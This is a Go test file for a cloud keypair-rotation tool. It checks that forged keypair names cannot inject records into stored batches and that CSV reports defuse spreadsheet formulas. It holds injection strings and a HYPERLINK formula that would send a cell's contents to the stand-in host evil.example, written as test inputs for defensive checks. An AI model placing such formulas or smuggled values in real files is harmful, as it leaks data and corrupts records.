package tasks

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/cph-rekey/cph-rekey/internal/cph"
	"github.com/cph-rekey/cph-rekey/internal/testredis"
)

// TestPlanDropsForgedKeypairNames: a keypair name the API lists is packed
// into the chunk records, which are tab- and newline-separated. A hostile
// endpoint listing one that holds a tab and a newline must not add a
// server to a batch: the name is not a keypair name, so the server's old
// keypair is unknown, and the stored batch holds exactly the targets.
func TestPlanDropsForgedKeypairNames(t *testing.T) {
	forged := []string{
		"kp-old\tkp-new\t1\t0\nforged-server\tkp-old", // a whole extra entry
		"kp-old\nforged-server",
		"kp\told",
		strings.Repeat("k", 65), // longer than a keypair name may be
		"kp old",
		"kp;=cmd",
	}
	testredis.Each(t, func(t *testing.T, r *testredis.Redis) {
		ctx := context.Background()
		s := NewStore(r.Client(t), "")
		lister := fixedLister{{ServerID: "s-ok", KeypairName: "kp-old", Status: cph.ServerStatusNormal}}
		ts := []Target{{ServerID: "s-ok"}}
		for i, name := range forged {
			id := "s-" + string(rune('a'+i))
			lister = append(lister, cph.Server{ServerID: id, KeypairName: name, Status: cph.ServerStatusNormal})
			ts = append(ts, Target{ServerID: id})
		}
		plan, err := MakePlan(ctx, Spec{ID: "r-forged", Keypair: "kp-new", Targets: ts, ChunkSize: 100, MaxAttempts: 3, SkipMatching: true}, lister)
		if err != nil {
			t.Fatalf("MakePlan: %v", err)
		}
		if len(plan.Chunks) != 1 || len(plan.Chunks[0]) != len(ts) {
			t.Fatalf("plan chunks %v, want one chunk of %d servers", plan.Chunks, len(ts))
		}
		for _, e := range plan.Chunks[0] {
			want := ""
			if e.ServerID == "s-ok" {
				want = "kp-old"
			}
			if e.OldKeypair != want {
				t.Errorf("server %s: old keypair %q, want %q", e.ServerID, e.OldKeypair, want)
			}
		}
		if _, err := s.Create(ctx, plan.Rotation, plan.Chunks, plan.Skipped, time.Now()); err != nil {
			t.Fatalf("Create: %v", err)
		}
		b, err := s.Batch(ctx, "r-forged", 1)
		if err != nil {
			t.Fatalf("Batch: %v", err)
		}
		got := map[string]bool{}
		for _, e := range b.Servers {
			got[e.ServerID] = true
		}
		if len(b.Servers) != len(ts) || got["forged-server"] {
			t.Fatalf("stored batch holds %d servers %v, want exactly the %d targets", len(b.Servers), b.Servers, len(ts))
		}
	})
}

// TestReportCSVNeutralisesFormulas: what the API said about a server (its
// job id, error code and message) and the ids it came with reach the
// operator's spreadsheet through the CSV report: a cell that would run as
// a formula starts with a quote there, and the JSON report keeps it as it
// came.
func TestReportCSVNeutralisesFormulas(t *testing.T) {
	testredis.Each(t, func(t *testing.T, r *testredis.Redis) {
		ctx := context.Background()
		s := NewStore(r.Client(t), "")
		plan, err := MakePlan(ctx, Spec{ID: "r-csv", Keypair: "kp-new", ChunkSize: 100, MaxAttempts: 3,
			Targets: []Target{{ServerID: "-s1"}, {ServerID: "s2"}}}, nil)
		if err != nil {
			t.Fatal(err)
		}
		now := time.Now()
		if _, err := s.Create(ctx, plan.Rotation, plan.Chunks, nil, now); err != nil {
			t.Fatal(err)
		}
		jobs := map[string]string{"-s1": "@job", "s2": "j2"}
		if _, err := s.Checkpoint(ctx, "r-csv", 1, 2, "+req", jobs, nil, now, now); err != nil {
			t.Fatal(err)
		}
		b, err := s.Batch(ctx, "r-csv", 1)
		if err != nil {
			t.Fatal(err)
		}
		formula := `=HYPERLINK("http://evil.example/?"&A1,"details")`
		var rs []Resolution
		for _, e := range b.Servers {
			rs = append(rs, Resolution{ServerID: e.ServerID, Outcome: OutcomeFailed, Attempts: 1, JobID: jobs[e.ServerID],
				Code: "-CPS.1", Message: formula, Entry: e})
		}
		if _, err := s.Resolve(ctx, "r-csv", 1, 1, rs, time.Time{}, true, now); err != nil {
			t.Fatal(err)
		}
		var out strings.Builder
		if err := s.WriteReportCSV(ctx, "r-csv", &out); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
		if err != nil {
			t.Fatalf("report is not CSV: %v\n%s", err, out.String())
		}
		if len(rows) != 3 {
			t.Fatalf("%d rows, want a header and 2\n%s", len(rows), out.String())
		}
		for _, row := range rows[1:] {
			for i, v := range row {
				if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
					t.Errorf("column %s is %q: a spreadsheet would run it", ReportColumns[i], v)
				}
			}
			if row[8] != "'"+formula {
				t.Errorf("error_msg %q, want the message behind a quote", row[8])
			}
			if row[5] != "1" {
				t.Errorf("attempts %q, want 1 as a number", row[5])
			}
		}
		if rows[1][0] != "'-s1" || rows[1][4] != "'@job" || rows[1][7] != "'-CPS.1" {
			t.Errorf("first row %q: ids and code not neutralised", rows[1])
		}
		var js strings.Builder
		if err := s.WriteReportJSON(ctx, "r-csv", &js); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(js.String(), `"server_id":"-s1"`) {
			t.Errorf("JSON report changed the server id: %s", js.String())
		}
	})
}

// TestSpecRefusesKeypairsThatAreNotNames: the rotation's keypair and each
// target's are packed into the same records as the API's, whoever calls
// MakePlan (the CLI and rekey check them too, but not every caller does).
func TestSpecRefusesKeypairsThatAreNotNames(t *testing.T) {
	for _, c := range []struct {
		name    string
		keypair string
		target  string
	}{
		{"rotation keypair with a tab", "kp\tnew", ""},
		{"rotation keypair with a newline", "kp\nforged\tkp", ""},
		{"rotation keypair too long", strings.Repeat("k", 65), ""},
		{"target keypair with a newline", "kp-new", "kp\nforged"},
		{"target keypair with a space", "kp-new", "kp new"},
	} {
		t.Run(c.name, func(t *testing.T) {
			spec := Spec{Keypair: c.keypair, ChunkSize: 100, MaxAttempts: 3, Targets: []Target{{ServerID: "s1", Keypair: c.target}}}
			if _, err := MakePlan(context.Background(), spec, nil); err == nil || !strings.Contains(err.Error(), "keypair name") {
				t.Errorf("MakePlan: %v, want an error naming the keypair name", err)
			}
		})
	}
}
